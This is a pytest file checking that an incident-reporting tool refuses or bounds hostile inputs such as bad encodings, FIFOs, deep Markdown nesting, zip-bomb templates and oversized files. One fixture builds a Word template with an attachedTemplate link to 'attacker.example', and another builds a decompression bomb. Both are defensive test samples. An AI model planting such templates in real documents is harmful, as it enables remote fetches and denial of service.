"""Issue 13, items 4-6 and the input kinds of item 8: what a hostile or damaged input file can
do is bounded (the bad-input corpus in tests/data/bad/ holds the file-shaped cases; these are
the ones that need a FIFO, a device, a Word template or a library call).

Guards: yamlio.read_text (regular files under a size limit), narrative.check_markdown_bounds,
render.docx._check_template_archive and _drop_external_parts, readers._decode_marked (encoding from
evidence), yamlio._construct_mapping (complex keys).
"""

from __future__ import annotations

import datetime as dt
import io
import os
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

from ccreport.config import Config
from ccreport.document import Document, Paragraph, Section
from ccreport.errors import ConfigError, IngestError, RenderError
from ccreport.ingest import load
from ccreport.ingest.readers import BINARY_NUL_SHARE
from ccreport.pir.narrative import MAX_MARKDOWN_DEPTH, load_narrative, loads_narrative, markdown_blocks
from ccreport.render.docx import MAX_TEMPLATE_UNCOMPRESSED, render_docx
from ccreport.yamlio import MAX_TEXT_BYTES, load as load_yaml, read_text

from .util import ROOT

BAD = ROOT / "tests" / "data" / "bad"
HEADER = "incident_id,title,category,priority,status,opened_at,resolved_at,reopen_count\n"


def _cli(*args: str, cwd: Path, timeout: float = 60) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CCREPORT_")}
    return subprocess.run([sys.executable, "-m", "ccreport.cli", *args], capture_output=True, text=True,
                          cwd=cwd, timeout=timeout, env=env)


# --------------------------------------------------------------------------- item 4: encoding


def test_one_stray_byte_keeps_utf8_and_one_category(tmp_path):
    """Guard: readers._decode_marked. "Télécom" in UTF-8 with one stray 0x92 elsewhere stays one
    category; the byte is reported and --strict exits 3."""
    path = tmp_path / "stray.csv"
    rows = [f"INC{i:03d},Title {i},Télécom,P3,Resolved,2026-10-05T09:00:00Z,2026-10-05T11:00:00Z,0\n"
            for i in range(1, 40)]
    path.write_bytes(HEADER.encode() + "".join(rows).encode()
                     + b"INC100,It\x92s down,T\xc3\xa9l\xc3\xa9com,P1,New,2026-10-06T10:00:00Z,,0\n")
    result = load([path], Config())
    assert set(result.incidents["category"].astype(str)) == {"Télécom"}
    assert result.quality.invalid_values == 1
    (issue,) = result.quality.issues
    assert (issue.row, issue.field) == (41, "title") and "not UTF-8" in issue.problem
    r = _cli("validate", str(path), "--strict", cwd=tmp_path)
    assert r.returncode == 3, r.stderr


def test_a_bad_byte_in_the_header_is_reported_too(tmp_path):
    """pyarrow skips the header without checking it; csvparse.parse checks it."""
    path = tmp_path / "hdr.csv"
    path.write_bytes(b"incident_id,tit\x92le,opened_at,priority\nINC1,T\xc3\xa9l\xc3\xa9com,2026-10-05T09:00:00Z,P1\n")
    result = load([path], Config())
    (issue,) = result.quality.issues
    assert issue.row == 1 and issue.field == "tit\ufffdle" and result.quality.problems == 1


def test_a_real_cp1252_file_still_reads_as_cp1252(tmp_path):
    path = tmp_path / "cp.csv"
    path.write_bytes((HEADER + "INC001,Café – “déjà vu”,Télécom,P1,Resolved,2026-10-05T09:00:00Z,,0\n")
                     .encode("cp1252"))
    result = load([path], Config())
    assert result.incidents.loc[0, "title"] == "Café – “déjà vu”"
    assert result.quality.problems == 0


def test_more_bad_bytes_than_good_sequences_is_cp1252(tmp_path):
    """The rule's other side: one accidental valid pair among many cp1252 accents."""
    path = tmp_path / "mixed.csv"
    text = HEADER + "INC001,élan été café,Télécom,P1,Resolved,2026-10-05T09:00:00Z,,0\n"
    path.write_bytes(text.encode("cp1252").replace(b"INC001", "INCé".encode("utf-8")))
    result = load([path], Config())
    assert result.incidents.loc[0, "title"] == "élan été café"


# --------------------------------------------------------------------------- item 5: NUL


def test_utf16_without_bom_is_still_read_and_binary_still_refused(tmp_path):
    utf16 = tmp_path / "u16.csv"
    utf16.write_bytes((HEADER + "INC001,Phones down,CRM,P1,New,2026-10-05T09:00:00Z,,0\n").encode("utf-16-le"))
    assert load([utf16], Config()).incidents.loc[0, "title"] == "Phones down"
    binary = tmp_path / "bin.csv"
    binary.write_bytes(HEADER.encode() + bytes(range(256)) * 40)
    # A zero-filled block in text (a crashed copy) is damage, read and reported, not binary.
    block = tmp_path / "block.csv"
    block.write_bytes(HEADER.encode() + b"INC001,Phones" + b"\0" * 4096 + b" down,CRM,P1,New,2026-10-05T09:00:00Z,,0\n"
                      + "".join(f"INC{i:04d},T,CRM,P3,New,2026-10-05T09:00:00Z,,0\n" for i in range(2, 20000)).encode())
    assert block.read_bytes().count(0) > BINARY_NUL_SHARE * block.stat().st_size / 10
    result = load([block], Config())
    assert result.incidents.loc[0, "title"] == "Phones down" and result.quality.invalid_values == 1
    with pytest.raises(IngestError, match="not a text CSV"):
        load([binary], Config())


# --------------------------------------------------------------------------- item 6: text files


def test_config_that_is_a_fifo_is_refused_without_hanging(tmp_path):
    """Guard: yamlio.read_text opens with O_NONBLOCK and refuses what is not a regular file."""
    fifo = tmp_path / "ccreport.yaml"
    os.mkfifo(fifo)
    r = _cli("--config", str(fifo), "validate", str(BAD / "good.csv"), cwd=tmp_path, timeout=30)
    assert r.returncode == 1
    (line,) = [ln for ln in r.stderr.splitlines() if ln.startswith("ccreport: error:")]
    assert "not a regular file" in line and str(fifo) in line


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null"])
def test_devices_are_refused(device):
    if not Path(device).exists():
        pytest.skip(f"no {device}")
    with pytest.raises(ConfigError, match="not a regular file"):
        read_text(device)


def test_oversized_and_folder_text_files_are_refused(tmp_path):
    big = tmp_path / "mapping.yaml"
    with big.open("wb") as f:
        f.truncate(MAX_TEXT_BYTES + 1)  # sparse: no disk used
    with pytest.raises(ConfigError, match="limit"):
        read_text(big)
    with pytest.raises(ConfigError, match="is a folder"):
        read_text(tmp_path)
    small = tmp_path / "ok.yaml"
    small.write_bytes(b"\xef\xbb\xbftimezone: UTC\n")
    assert read_text(small) == "timezone: UTC\n"


def test_fifo_narrative_is_refused(tmp_path):
    fifo = tmp_path / "pir.md"
    os.mkfifo(fifo)
    done: list[BaseException] = []

    def run() -> None:
        try:
            load_narrative(fifo)
        except BaseException as err:  # noqa: BLE001 - handed to the main thread
            done.append(err)
    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(10)
    assert done and isinstance(done[0], ConfigError), "load_narrative hung on a FIFO"


@pytest.mark.parametrize("text", ["timezone: UTC\n? [a, b]\n: 1\n", "columns:\n  ? {a: 1}\n  : x\n",
                                  "x: 1\n? !!set {a}\n: 1\n", "{[a]: 1}\n"])
def test_yaml_complex_keys_are_one_line_errors(tmp_path, text):
    path = tmp_path / "x.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError, match=r"x\.yaml line \d: a (list|mapping|set) used as a key"):
        load_yaml(path)


# --------------------------------------------------------------------------- item 6: Markdown


@pytest.mark.parametrize("body", [
    ">" * 10_000 + " deep\n",
    "- " * 10_000 + "deep\n",
    "".join("    " * i + "- item\n" for i in range(MAX_MARKDOWN_DEPTH + 5)),
])
def test_pathological_markdown_nesting_is_refused_quickly(body):
    with pytest.raises(ConfigError, match="nested .* levels deep"):
        markdown_blocks(body)


def test_a_5000_column_table_is_refused():
    row = "|" + "a|" * 5000
    with pytest.raises(ConfigError, match="over 64 columns"):
        markdown_blocks(f"{row}\n|{'-|' * 5000}\n{row}\n")


def test_narrative_bounds_name_the_file_and_line():
    text = "---\nstatus: Draft\n---\n\n# What happened\n\n" + "> " * 100 + "deep\n"
    with pytest.raises(ConfigError, match=r"pir\.md line 7: quotes or lists nested 100 levels"):
        loads_narrative(text, "pir.md")


def test_ordinary_nesting_and_tables_still_render():
    blocks = markdown_blocks("> quoted\n\n- a\n    - b\n        - c\n\n| A | B |\n|---|---|\n| 1 | 2 |\n")
    assert blocks


# --------------------------------------------------------------------------- item 6: DOCX template


def _doc() -> Document:
    return Document("t", "T", period_label="P", organisation="O", author="O", date=dt.date(2026, 1, 2),
                    blocks=[Section("S", [Paragraph("Body")])])


def _template_with_external_parts(path: Path) -> None:
    from docx import Document as new_docx

    buf = io.BytesIO()
    new_docx().save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    rel = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
           'relationships/attachedTemplate" Target="file://attacker.example/share/t.dotm" TargetMode="External"/>')
    link = ('<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/hyperlink" Target="https://intranet.example/" TargetMode="External"/>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/settings.xml":
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom', 1)
                if b'xmlns:r=' not in data[:2000]:
                    data = data.replace(b"<w:settings ", b'<w:settings xmlns:r="http://schemas.openxmlformats.org/'
                                        b'officeDocument/2006/relationships" ', 1)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", link.encode() + b"</Relationships>")
            dst.writestr(item, data)
        if "word/_rels/settings.xml.rels" not in src.namelist():
            dst.writestr("word/_rels/settings.xml.rels",
                         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                         f'"http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>')


def test_template_external_relationships_are_dropped(tmp_path):
    """Guard: render.docx._drop_external_parts. An attachedTemplate pointing at a UNC or web
    path would make Word fetch it on open; it is gone from the report (hyperlinks stay)."""
    path = tmp_path / "house.docx"
    _template_with_external_parts(path)
    assert b"attacker.example" in zipfile.ZipFile(path).read("word/_rels/settings.xml.rels")
    out = render_docx(_doc(), {}, template=path)
    z = zipfile.ZipFile(io.BytesIO(out))
    everything = b"".join(z.read(n) for n in z.namelist())
    assert b"attacker.example" not in everything
    assert b"attachedTemplate" not in z.read("word/settings.xml")
    assert b'TargetMode="External"' not in b"".join(
        z.read(n) for n in z.namelist() if n.endswith(".rels") and n != "word/_rels/document.xml.rels")


def test_template_that_unpacks_too_big_is_refused(tmp_path):
    """Guard: render.docx._check_template_archive, from the declared sizes."""
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/media/huge.bin", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 22)
            for _ in range(MAX_TEMPLATE_UNCOMPRESSED // len(chunk) + 1):
                member.write(chunk)
    with pytest.raises(RenderError, match="unpacks to .* MB limit"):
        render_docx(_doc(), {}, template=path)


def test_template_with_too_many_parts_is_refused(tmp_path):
    path = tmp_path / "parts.docx"
    with zipfile.ZipFile(path, "w") as z:
        for i in range(1001):
            z.writestr(f"p/{i}.xml", "")
    with pytest.raises(RenderError, match="parts, over the 1,000 limit"):
        render_docx(_doc(), {}, template=path)
